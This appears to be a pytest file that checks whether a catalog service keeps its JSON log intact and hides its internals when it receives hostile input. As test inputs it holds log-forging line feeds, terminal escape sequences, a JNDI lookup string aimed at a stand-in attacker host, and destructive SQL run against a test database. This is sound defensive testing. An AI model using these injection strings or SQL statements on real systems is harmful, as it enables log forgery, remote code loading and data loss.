"""What callers send reaches the log as values: one JSON object a line, and nothing else of it."""

import json
from urllib.parse import quote

import httpx
import psycopg
import pytest

from tests.builders.flights import TABLE, add, proposal, table_body
from tests.service.api.http.connections.requests_by_hand import exchange
from tests.service.catalog_managed.guarded import make_token
from tests.service.process.cli.command_line import serving, url_in
from tidegate_service.core.access.roles import Grant, Role

HOSTILE = {
    "a line feed": 'a\n{"level":"error","event":"forged"}',
    "a return": "a\rb",
    "an escape sequence": "a\x1b[2J\x1b[31mb",
    "a terminal's title": "a\x1b]0;owned\x07b",
    "a backspace": "a\x08b",
    "a quote": 'a","level":"error","x":"',
    "a backslash": "a\\",
    "next line": "a\u0085b",
    "a line separator": "a\u2028b",
    "a bidi override": "a\u202eb",
    "a C1 introducer": "a\u009b31mb",
    "a format string": "%s%(levelname)s{0}{levelname}%n",
    "a look-up": "${jndi:ldap://attacker.example/x}",
    "a NUL": "a\0b",
    "an emoji": "\U0001f680",
    "much of it": "x\n" * 2000,
}


def headers_with(text: str) -> list[tuple[bytes, bytes]]:
    """As many headers as HTTP lets them through: those that it does not are sent by hand."""
    plain = "".join(c for c in text if c.isprintable() and ord(c) < 256)[:200] or "x"
    return [
        (b"User-Agent", plain.encode("latin-1")),
        (b"X-Request-Id", plain.encode("latin-1")),
        (b"X-Spark-Application-Id", plain.encode("latin-1")),
        (b"X-Forwarded-For", plain.encode("latin-1")),
        (b"traceparent", plain.encode("latin-1")),
    ]


def calls(client: httpx.Client, text: str) -> int:
    """Everything that a caller can put a text into; the number of requests that were."""
    escaped = quote(text[:300], safe="", errors="surrogatepass")
    answers = [
        client.get(f"/tables/{escaped}"),
        client.get(f"/tables?prefix={escaped}&cursor={escaped}"),
        client.get(f"/tables/{TABLE}/transactions/{escaped}"),
        client.post(f"/tables/{TABLE}/transactions/{escaped}/abort"),
        client.get(f"/tables/{TABLE}/app-transactions/{escaped}"),
        client.get(f"/tables/{TABLE}/commits/{escaped}"),
        client.get(f"/tables/{TABLE}/commits?limit={escaped}"),
        client.request("BREW", f"/{escaped}"),
        client.post("/tables", json=table_body(text)),
        client.post("/tables", json=table_body("a.b.c", location=f"file:///{text}")),
        client.post("/tables", json=table_body("a.b.c", comment=text, schema={"type": text})),
        client.post(f"/tables/{TABLE}/commits", json=proposal(add(path=text))),
        client.post(f"/tables/{TABLE}/commits", json=proposal(add(), operation=text)),
        client.post(f"/tables/{TABLE}/commits", json=proposal(add(), transaction_id=text)),
        client.post(f"/tables/{TABLE}/commits", json=proposal(add(), reads={"predicates": [text]})),
        client.post(f"/tables/{TABLE}/commits", json={text: 1}),
        client.post(f"/tables/{TABLE}/commits", json=proposal({text: {}})),
        client.post(f"/tables/{TABLE}/scan", json={"predicates": [text], "columns": [text]}),
        client.post("/tables", content=b"{}", headers=[(b"Content-Type", b"a/b; x=\xff")]),
        client.get("/tables", headers=headers_with(text)),
    ]
    for answer in answers:
        assert answer.status_code < 500, answer.text
    return len(answers)


@pytest.fixture(scope="module")
def log(postgres_server, migrated_template, tmp_path_factory) -> tuple[int, list[str]]:
    """How many requests there were, and the lines of the service's log after all of them."""
    from tests.servers.postgres import cloned

    with cloned(postgres_server.url, migrated_template) as url:
        token = make_token(url, Grant(Role.ADMIN, "*"), label="hostile")
        folder = tmp_path_factory.mktemp("hostile")
        where = ("--database-url", url, "--data-dir", folder, "--log-level", "debug")
        lines = folder / "log"
        with serving("--auth", "tokens", *where, log=lines) as (_, printed):
            root = url_in(printed)
            sent = 1
            with httpx.Client(
                base_url=f"{root}/api/v1", headers={"Authorization": f"Bearer {token}"}, timeout=40
            ) as client:
                assert client.post("/tables", json=table_body()).status_code == 201
                for text in HOSTILE.values():
                    sent += calls(client, text)
            for text in HOSTILE.values():
                raw = f"GET /{text} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
                exchange(root, raw.encode("utf-8"))
    return sent, lines.read_bytes().decode("ascii").split("\n")[:-1]


class TestLog:
    def test_each_line_is_one_object_of_plain_text(self, log):
        for line in log[1]:
            assert line.isascii()
            assert line.isprintable()
            event = json.loads(line)
            assert set(event) >= {"time", "level", "logger", "event"}

    def test_no_line_is_forged(self, log):
        sent, lines = log
        events = [json.loads(line) for line in lines]
        assert not [event for event in events if event["event"] == "forged"]
        assert not [event for event in events if event["logger"] == "tidegate.defect"]
        access = [event for event in events if event["logger"] == "tidegate.access"]
        authenticated = [event for event in access if event.get("principal") == "hostile"]
        # All but what went nowhere: a method that is none, per text.
        assert len(authenticated) >= sent - 5 * len(HOSTILE)
        assert len(access) >= sent

    def test_ids_are_those_of_the_service_where_they_are_not_plain(self, log):
        ids = {json.loads(line).get("request_id") for line in log[1]}
        for found in ids - {None}:
            assert all(c.isascii() and (c.isalnum() or c in "._-") for c in found)


class TestAnswers:
    @pytest.mark.parametrize(
        "damage",
        [
            "ALTER TABLE tables RENAME TO gone",
            "ALTER TABLE tables RENAME COLUMN name TO gone",
            "ALTER TABLE tables ALTER COLUMN protocol SET NOT NULL",
            "ALTER TABLE audit DROP COLUMN deed",
            "REVOKE ALL ON tables FROM PUBLIC; ALTER TABLE commits ADD CHECK (version < 0)",
        ],
    )
    def test_a_broken_index_shows_nothing_of_itself(self, service, api, database_url, damage):
        with psycopg.connect(database_url) as connection:
            connection.execute(damage)
        answer = api.post("/tables", json=table_body())
        assert answer.status_code in (500, 503)
        for inside in (
            "SELECT",
            "INSERT",
            "psycopg",
            "sqlalchemy",
            "Traceback",
            'File "',
            ".py",
            "constraint",
            "SQLSTATE",
            "postgresql://",
            "/tmp",
        ):
            assert inside not in answer.text
        problem = answer.json()
        assert problem["instance"] == answer.headers["x-request-id"]
        assert ("error_id" in problem) == (answer.status_code == 500)
